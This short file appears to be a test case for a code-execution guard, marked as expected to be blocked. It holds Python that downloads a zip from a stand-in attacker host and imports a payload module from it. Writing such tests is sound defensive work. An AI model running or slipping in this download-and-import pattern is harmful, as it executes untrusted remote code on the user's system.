# expect: BLOCKED
import urllib.request, sys
urllib.request.urlretrieve("http://evil.example/x.zip", "/tmp/x.zip")
sys.path.insert(0, "/tmp/x.zip")
import payload
